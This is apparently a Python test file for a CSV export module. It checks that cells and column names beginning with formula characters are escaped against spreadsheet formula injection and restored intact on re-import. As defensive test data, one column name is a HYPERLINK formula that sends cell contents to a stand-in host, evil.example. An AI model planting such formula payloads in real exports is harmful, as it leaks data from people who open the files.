import io
import zipfile

import pandas as pd

from orgdata.model.settings import Settings
from orgdata.sources import read_files
from orgdata.store.archive import to_zip
from orgdata.tabular.csv_safe import csv_bytes, unescape_formulas
from orgdata.validate import validate
from tests.csv_folders import opened

TEXT = ["=1+1", "+cmd", "-5", "- not a number", "@home", "\tx", "plain", "'quoted'", "", "-1,200",
        "\n=1+1", "\r=1+1", "＝1+1", "＋1+A1", "－1+A1", "＠SUM(1)", "x;=1+1"]


def test_a_text_is_no_formula_and_a_number_stays_one():
    frame = pd.DataFrame({"said": TEXT, "number": range(len(TEXT))})
    written = csv_bytes(frame)
    assert written.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(written), dtype="str", keep_default_na=False, encoding="utf-8-sig")
    assert back["said"].tolist() == ["'=1+1", "'+cmd", "-5", "'- not a number", "'@home", "'\tx",
                                     "plain", "'quoted'", "", "-1,200", "'\n=1+1", "'\r=1+1", "'＝1+1",
                                     "'＋1+A1", "'－1+A1", "'＠SUM(1)", "x;=1+1"]
    assert unescape_formulas(back)["said"].tolist() == TEXT
    assert back["number"].tolist() == [str(number) for number in range(len(TEXT))]


def test_the_name_of_a_column_is_no_formula():
    names = ['=HYPERLINK("http://evil.example"&A2,"open")', "@x", "\t=1+1", "－1", "plain", "-5"]
    written = csv_bytes(pd.DataFrame([range(6)], columns=names))
    back = pd.read_csv(io.BytesIO(written), dtype="str", encoding="utf-8-sig")
    assert back.columns.tolist() == [f"'{names[0]}", "'@x", "'\t=1+1", "'－1", "plain", "-5"]
    assert unescape_formulas(back).columns.tolist() == names
    both = pd.DataFrame([("a", "b")], columns=["'@x", "@x"])  # a name is never given twice
    assert unescape_formulas(both).columns.tolist() == ["'@x", "@x"]


def test_every_cell_is_quoted(tmp_path):
    frame = pd.DataFrame({"a;b": ["x;=1+1"], "n": [5]})
    assert csv_bytes(frame) == b'\xef\xbb\xbf"a;b","n"\n"x;=1+1","5"\n'
    tables = opened(tmp_path, products="product_id,name\nP1,x;=1+1\n")
    assert b'"P1","x;=1+1"' in _products(to_zip(tables, for_spreadsheets=True))
    assert b"P1,x;=1+1" in _products(to_zip(tables))


def _products(packed):
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        return archive.read("products.csv")


def test_what_is_taken_along_comes_back_as_it_was(tmp_path):
    before = opened(tmp_path, products="product_id,name,annual_spend\n=P1,+Checkout,-5\n@2,'t Huis,1\n")
    packed = to_zip(before, for_spreadsheets=True)
    after = validate(read_files("x", {"portfolio.zip": packed}, Settings()))
    pd.testing.assert_frame_equal(after["products"], before["products"])
    assert b"'=P1" not in to_zip(before)


def test_the_rows_set_aside_can_be_dropped_in_again(tmp_path):
    before = opened(tmp_path, products="product_id,name\nP1,Checkout\n,=Lost\n")
    aside = csv_bytes(before.set_aside["products"])
    mended = aside.replace(b',"","\'=Lost"', b',"P2","\'=Lost"').replace(
        b"product_id: a value is required", b"")
    after = validate(read_files("x", {"products_set_aside.csv": mended}, Settings()))
    assert after["products"][["product_id", "name"]].to_numpy().tolist() == [["P2", "=Lost"]]
